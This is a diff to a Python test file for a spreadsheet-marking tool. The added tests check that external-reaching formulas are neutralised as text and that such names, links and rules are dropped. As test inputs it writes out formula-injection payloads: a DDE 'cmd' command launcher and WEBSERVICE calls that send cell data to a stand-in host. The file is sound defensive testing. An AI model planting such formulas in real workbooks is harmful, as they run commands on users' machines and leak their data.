@@ -5,7 +5,11 @@ from pathlib import Path
 import openpyxl
 import pytest
 import xlsxwriter
+from openpyxl.formatting.rule import FormulaRule
 from openpyxl.styles import Font
+from openpyxl.workbook.defined_name import DefinedName
+from openpyxl.worksheet.datavalidation import DataValidation
+from openpyxl.worksheet.formula import ArrayFormula
 
 from zhisheng.kit.sheets.limits import Limits
 from zhisheng.kit.sheets.marking import mark_workbook, write_refused_rows
@@ -61,6 +65,70 @@ def test_an_xlsx_comes_back_as_it_was_with_wrong_cells_marked(tmp_path):
     assert page.auto_filter.ref == "A2:F5"
     assert [row for row in range(1, 6) if page.row_dimensions[row].hidden] == [4]
     assert not book["填表说明"].auto_filter.ref
+
+
+@pytest.mark.parametrize(
+    ("formula", "is_alive"),
+    [
+        ("=C3+1", True),
+        ("=SUM(C3:C5)*1.1", True),
+        ("=ROUND('填表 说明'!$A$1/2,2)", True),
+        ('=IF(C3>0,"是","否")', True),
+        ('=HYPERLINK("http://x.example","y")', False),
+        ('=WEBSERVICE("http://x.example/?"&C3)', False),
+        ("=_xlfn.WEBSERVICE(C3)", False),
+        ("=cmd|' /C calc'!A0", False),
+        ("=[1]Sheet1!A1", False),
+        ("='C:\\[a.xlsx]Sheet1'!A1", False),
+        ("='http://x.example/[a.xlsx]S'!A1", False),
+        ("=SECRET", False),
+        ("=C3+hyperlink(C3)", False),
+        ('=INDIRECT("A1")', False),
+    ],
+)
+def test_formulas_that_reach_outside_come_back_as_texts(formula, is_alive, tmp_path):
+    original, out = tmp_path / "a.xlsx", tmp_path / "marked.xlsx"
+    book = openpyxl.Workbook()
+    book.active.append(["企业名称", "从业人员", "合计"])
+    book.active.append(["甲公司", -5, formula])
+    book.create_sheet("其他").append([formula])
+    book.save(original)
+
+    mark_workbook(original, {"Sheet": {(2, 2): "不能为负"}}, out=out)
+
+    marked = openpyxl.load_workbook(out)
+    cells = (marked["Sheet"]["C2"], marked["其他"]["A1"])
+    assert {cell.value for cell in cells} == {formula}
+    assert {cell.data_type for cell in cells} == {"f" if is_alive else "s"}
+    assert {cell.quotePrefix for cell in cells} == {not is_alive}
+
+
+def test_names_links_and_rules_that_reach_outside_are_dropped(tmp_path):
+    original, out = tmp_path / "a.xlsx", tmp_path / "marked.xlsx"
+    book = openpyxl.Workbook()
+    page = book.active
+    page.append(["企业名称", "从业人员"])
+    page.append(["甲公司", -5])
+    page["A2"].hyperlink = "http://x.example"
+    page["E5"] = ArrayFormula("E5:E6", '=WEBSERVICE("http://x.example")')
+    for name, text in (("good", "Sheet!$A$1"), ("bad", 'WEBSERVICE("x")')):
+        book.defined_names[name] = DefinedName(name, attr_text=text)
+    for formula in ('"是,否"', 'WEBSERVICE("x")'):
+        page.add_data_validation(DataValidation("list", formula1=formula, sqref="B2"))
+        page.conditional_formatting.add("B2", FormulaRule([formula]))
+    book.save(original)
+
+    mark_workbook(original, {"Sheet": {(2, 2): "不能为负"}}, out=out)
+
+    marked = openpyxl.load_workbook(out)
+    page = marked["Sheet"]
+    assert (page["A2"].value, page["A2"].hyperlink) == ("甲公司", None)
+    assert page["E5"].data_type == "s"
+    assert list(marked.defined_names) == ["good"]
+    rules = [rule for block in page.conditional_formatting for rule in block.rules]
+    assert [rule.formula for rule in rules] == [['"是,否"']]
+    kept = page.data_validations.dataValidation
+    assert [rule.formula1 for rule in kept] == ['"是,否"']
 
 
 def test_a_second_return_uses_the_same_columns(tmp_path):
